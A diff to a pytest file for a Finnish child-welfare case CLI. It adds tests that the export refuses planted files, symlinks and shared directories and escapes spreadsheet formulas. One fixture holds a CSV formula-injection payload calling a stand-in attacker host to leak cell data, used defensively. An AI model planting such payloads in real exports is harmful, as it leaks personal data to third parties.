@@ -6,6 +6,7 @@ import contextlib
 import csv
 import json
 import os
+import re
 import signal
 import sqlite3
 import subprocess
@@ -25,13 +26,21 @@ import pytest
 from sqlalchemy import func, select
 from typer.testing import CliRunner, Result
 
-from perhetyo import FamilyCases, MeetingKind
-from perhetyo.cli import ERROR_EXIT_CODE, app, demo_case_id
-from perhetyo.cli import export as export_module
-from perhetyo.cli.export import PERSONAL_DATA_REMINDER, read_snapshot
+from perhetyo import FamilyCases, GoalStatus, MeetingKind
+from perhetyo.cli import ERROR_EXIT_CODE, app
+from perhetyo.cli.export import PERSONAL_DATA_REMINDER
 from perhetyo.cli.projections import stop_on_signals
 from perhetyo.projections.tables import TABLE_NAMES
-from perhetyo.testing import FakeClock, a_child, an_actor, open_sample_case
+from perhetyo.reporting import export as export_module
+from perhetyo.reporting import read_snapshot
+from perhetyo.testing import (
+    FakeClock,
+    StoryClock,
+    a_child,
+    an_actor,
+    open_sample_case,
+    record_demo_story,
+)
 
 _ENV: Mapping[str, str | None] = {
     "COLUMNS": "200",
@@ -61,10 +70,18 @@ def _ok(*args: str) -> Result:
     return result
 
 
+_LOG_LINE = re.compile(r"^\d{4}-\d{2}-\d{2} [\d:,]+ (DEBUG|INFO|WARNING) perhetyo")
+
+
 def _one_error_line(result: Result, code: str = "configuration_error") -> str:
+    """The one error line; with -v the perhetyo logger's own lines may stand before it."""
     assert result.exit_code == ERROR_EXIT_CODE, result.output
     assert result.stdout == ""
-    lines = result.output.strip().splitlines()
+    lines = [
+        line
+        for line in result.output.strip().splitlines()
+        if line and not _LOG_LINE.match(line)
+    ]
     assert len(lines) == 1, result.output
     assert lines[0].startswith(f"perhetyo: virhe [{code}]: ")
     return lines[0]
@@ -81,6 +98,13 @@ def demo_url(db_file: Path) -> str:
     url = f"sqlite:///{db_file}"
     _ok("demo", "--url", url)
     return url
+
+
+def _demo_case_in(url: str) -> UUID:
+    """The demo case's id as the store finds it (a replay of the story records nothing)."""
+    clock = StoryClock()
+    with FamilyCases(url, clock=clock) as cases:
+        return record_demo_story(cases, clock)
 
 
 def _table_rows(db_file: Path) -> dict[str, int]:
@@ -154,9 +178,10 @@ def test_rebuild_folds_every_event_into_the_same_rows(demo_url: str, db_file: Pa
     assert f"{_DEMO_EVENTS} tapahtumaa koottu" in result.stdout
     assert {s["lag"] for s in _status(demo_url)} == {0}
     assert _table_rows(db_file) == _DEMO_ROWS
+    case_id = _demo_case_in(demo_url)
     with FamilyCases(demo_url) as cases:
-        stored = cases.stored_views.current_plan(demo_case_id(cases))
-        assert stored == cases.current_plan(demo_case_id(cases), actor=an_actor())
+        stored = cases.stored_views.current_plan(case_id)
+        assert stored == cases.current_plan(case_id, actor=an_actor())
 
 
 def test_views_url_puts_the_tables_in_another_database(demo_url: str, tmp_path: Path) -> None:
@@ -232,7 +257,9 @@ def test_export_writes_one_file_per_table_with_every_row(
 
 
 @pytest.mark.parametrize("exported", ["csv", "jsonl", "parquet"], indirect=True)
-def test_exported_values_keep_their_stored_form(exported: tuple[str, Path, Result]) -> None:
+def test_exported_values_keep_their_stored_form(
+    exported: tuple[str, Path, Result], demo_url: str
+) -> None:
     fmt, out, _ = exported
     read = _READERS[fmt]
     (case,) = read(out / f"perhetyo_cases.{fmt}")
@@ -244,7 +271,7 @@ def test_exported_values_keep_their_stored_form(exported: tuple[str, Path, Resul
     assert children[0]["birth_date"] == "2010-03-15"
     child_views = case["child_views"] if fmt == "jsonl" else json.loads(case["child_views"])
     assert child_views["demo-child-2"].endswith("Nyt ei enää jännitä iltaisin.")
-    assert UUID(case["case_id"])  # keyed by the store: see test_cli's demo id test
+    assert case["case_id"] == str(_demo_case_in(demo_url))
     assert (case["status"], case["legal_basis"]) == ("closed", "child_welfare_act")
     assert str(case["plan_version"]) == "2"
     first = audit[0]
@@ -354,7 +381,7 @@ def test_an_unwritable_out_directory_exits_with_code_2_and_one_line(
     result = _run("export", "--url", demo_url, "--out", str(blocker / "out"))
 
     line = _one_error_line(result)
-    assert "cannot create --out" in line
+    assert "cannot create the export directory" in line
 
 
 def test_an_out_path_that_is_a_file_exits_with_code_2_and_one_line(
@@ -380,6 +407,218 @@ def test_parquet_without_pyarrow_tells_which_extra_to_install(
     line = _one_error_line(result)
     assert "pip install 'perhetyo[reporting]'" in line
     assert not (tmp_path / "x").exists()
+
+
+# --- export: files nobody else can read or plant (defect 6) ----------------------------------
+
+
+@pytest.fixture
+def private_out(tmp_path: Path) -> Path:
+    """An existing export directory of the user's own, mode 0700."""
+    out = tmp_path / "out"
+    out.mkdir(mode=0o700)
+    return out
+
+
+@pytest.mark.parametrize("table", ["perhetyo_cases", "perhetyo_audit_entries"])
+def test_export_refuses_a_partial_file_planted_beforehand_and_leaves_it_alone(
+    table: str, private_out: Path
+) -> None:
+    planted = private_out / f".{table}.csv.partial"
+    planted.write_text("planted by another user")
+    planted.chmod(0o666)
+
+    line = _one_error_line(_run("export", "--url", "memory://", "--out", str(private_out)))
+
+    assert f".{table}.csv.partial is already in the export directory" in line
+    assert planted.read_text() == "planted by another user"
+    assert planted.stat().st_mode & 0o777 == 0o666
+    assert [path.name for path in private_out.iterdir()] == [planted.name]  # nothing written
+
+
+@pytest.mark.parametrize("target_exists", [True, False], ids=["to-a-file", "dangling"])
+def test_export_never_follows_a_symlink_planted_as_a_partial_file(
+    target_exists: bool, private_out: Path, tmp_path: Path
+) -> None:
+    target = tmp_path / "readable-by-the-attacker.csv"
+    if target_exists:
+        target.write_text("untouched")
+    link = private_out / ".perhetyo_cases.csv.partial"
+    link.symlink_to(target)
+
+    _one_error_line(_run("export", "--url", "memory://", "--out", str(private_out)))
+
+    assert link.is_symlink()
+    assert target.read_text() == "untouched" if target_exists else not target.exists()
+    assert [path.name for path in private_out.iterdir()] == [link.name]
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o770, 0o1777, 0o722], ids=oct)
+def test_export_refuses_a_directory_others_can_write(mode: int, private_out: Path) -> None:
+    private_out.chmod(mode)
+
+    line = _one_error_line(_run("export", "--url", "memory://", "--out", str(private_out)))
+
+    assert f"can be written by others (mode {mode:04o})" in line
+    assert list(private_out.iterdir()) == []
+
+
+def test_export_refuses_the_shared_tmp_directory() -> None:
+    line = _one_error_line(_run("export", "--url", "memory://", "--out", "/tmp"))  # noqa: S108 (the point of the test)
+
+    assert "export directory /tmp" in line
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a directory to another user")
+def test_export_refuses_a_directory_of_another_user(private_out: Path) -> None:
+    os.chown(private_out, 65534, 65534)  # nobody: could chmod it and plant files any time
+
+    line = _one_error_line(_run("export", "--url", "memory://", "--out", str(private_out)))
+
+    assert "belongs to another user" in line
+    assert list(private_out.iterdir()) == []
+
+
+def test_export_creates_missing_parent_directories_readable_by_the_owner_only(
+    tmp_path: Path,
+) -> None:
+    out = tmp_path / "a" / "b" / "c"
+
+    _ok("export", "--url", "memory://", "--out", str(out))
+
+    created = (out, out.parent, out.parent.parent)
+    modes = {path.name: path.stat().st_mode & 0o777 for path in created}
+    assert modes == {"a": 0o700, "b": 0o700, "c": 0o700}
+    assert {path.stat().st_mode & 0o777 for path in out.iterdir()} == {0o600}
+
+
+_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
+_NEGATIVE = "-1 poissaolo lokakuussa"
+
+
+@pytest.fixture
+def formula_store(tmp_path: Path) -> str:
+    """A SQLite store with a goal and a goal update whose texts a spreadsheet would run."""
+    url = f"sqlite:///{tmp_path / 'formula.db'}"
+    with FamilyCases(url, clock=FakeClock()) as cases:
+        case_id = open_sample_case(cases)
+        goal_id = cases.set_goal(case_id, description=_FORMULA, set_on=date(2020, 8, 19),
+                                 actor=an_actor())
+        cases.update_goal(case_id, goal_id, status=GoalStatus.IN_PROGRESS, progress=10,
+                          note=_NEGATIVE, updated_on=date(2020, 9, 1), actor=an_actor())
+        cases.set_goal(case_id, description="@SUM(A1:A9) ja +1", set_on=date(2020, 8, 19),
+                       actor=an_actor())
+        cases.set_goal(case_id, description="Arki sujuu = hyvä", set_on=date(2020, 8, 19),
+                       actor=an_actor())
+    return url
+
+
+def test_csv_cells_that_start_a_formula_get_a_leading_quote(
+    formula_store: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "csv"
+
+    _ok("export", "--url", formula_store, "--out", str(out))
+
+    descriptions = {row["description"] for row in _read_csv(out / "perhetyo_goals.csv")}
+    assert descriptions == {f"'{_FORMULA}", "'@SUM(A1:A9) ja +1", "Arki sujuu = hyvä"}
+    (update,) = _read_csv(out / "perhetyo_goal_updates.csv")
+    assert update["note"] == f"'{_NEGATIVE}"
+    assert update["progress"] == "10"  # numbers and dates are not text: left alone
+    assert not any(
+        cell.startswith(("=", "+", "-", "@"))
+        for name in TABLE_NAMES
+        for row in _read_csv(out / f"{name}.csv")
+        for cell in row.values()
+    )
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_jsonl_and_parquet_keep_formula_like_text_exactly(
+    fmt: str, formula_store: str, tmp_path: Path
+) -> None:
+    out = tmp_path / fmt
+
+    _ok("export", "--url", formula_store, "--out", str(out), "--format", fmt)
+
+    goals = _READERS[fmt](out / f"perhetyo_goals.{fmt}")
+    (update,) = _READERS[fmt](out / f"perhetyo_goal_updates.{fmt}")
+    assert _FORMULA in {goal["description"] for goal in goals}
+    assert update["note"] == _NEGATIVE
+
+
+# --- a corrupted store: one line, no stored content ------------------------------------------
+
+_STORED_MARKER = "STORED-MARKER-8Kq"
+"""Planted in the damaged bytes: it must appear in no output."""
+
+
+@pytest.fixture(params=["not-json", "fields-do-not-validate"])
+def corrupted_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
+    """A SQLite store whose one event's stored bytes are damaged (holding the marker)."""
+    db = tmp_path / "corrupted.db"
+    url = f"sqlite:///{db}"
+    with FamilyCases(url, clock=FakeClock()) as cases:
+        open_sample_case(cases)
+    damaged = (
+        b"\xff{" + _STORED_MARKER.encode()
+        if request.param == "not-json"
+        else orjson.dumps({"children": [{"display_name": _STORED_MARKER}], "x": _STORED_MARKER})
+    )
+    with contextlib.closing(sqlite3.connect(db)) as conn, conn:
+        conn.execute("UPDATE stored_events SET state = ? WHERE originator_version = 1", (damaged,))
+    return url
+
+
+@pytest.mark.parametrize(
+    "command",
+    [("projections", "update"), ("projections", "rebuild"), ("export", "--out", "{out}")],
+    ids=" ".join,
+)
+def test_a_corrupted_event_ends_a_command_with_one_line_and_no_stored_content(
+    command: tuple[str, ...], corrupted_url: str, tmp_path: Path
+) -> None:
+    args = [arg.format(out=tmp_path / "out") for arg in command]
+
+    result = _run("-vv", *args, "--url", corrupted_url)
+
+    line = _one_error_line(result, "corrupt_record")
+    assert "stored event 1 of case " in line
+    assert _STORED_MARKER not in result.output
+    assert "Traceback" not in result.output
+
+
+def test_the_worker_on_a_corrupted_store_stops_with_one_line_on_stderr(
+    corrupted_url: str,
+) -> None:
+    result = _run("projections", "run", "--url", corrupted_url, "--poll-interval", "0.05")
+
+    assert result.exit_code == ERROR_EXIT_CODE, result.output
+    (line,) = result.stderr.strip().splitlines()
+    assert line.startswith("perhetyo: virhe [corrupt_record]: stored event 1 of case ")
+    assert _STORED_MARKER not in result.output
+    assert "Traceback" not in result.output
+
+
+def test_status_of_a_corrupted_store_still_shows_the_lag(corrupted_url: str) -> None:
+    (first, *_) = _status(corrupted_url)
+
+    assert (first["position"], first["head"], first["lag"]) == (0, 1, 1)
+
+
+@pytest.mark.parametrize("corrupted_url", ["not-json"], indirect=True)
+def test_the_console_script_prints_one_line_for_a_corrupted_store(corrupted_url: str) -> None:
+    env = {key: value for key, value in os.environ.items() if not key.startswith("PERHETYO_")}
+    result = subprocess.run(
+        [sys.executable, "-m", "perhetyo.cli", "projections", "update", "--url", corrupted_url],
+        capture_output=True, text=True, env=env, timeout=60, check=False,
+    )
+
+    assert result.returncode == ERROR_EXIT_CODE
+    assert result.stdout == ""
+    (line,) = result.stderr.strip().splitlines()
+    assert line.startswith("perhetyo: virhe [corrupt_record]: ")
+    assert _STORED_MARKER not in result.stderr
 
 
 # --- the worker ------------------------------------------------------------------------------
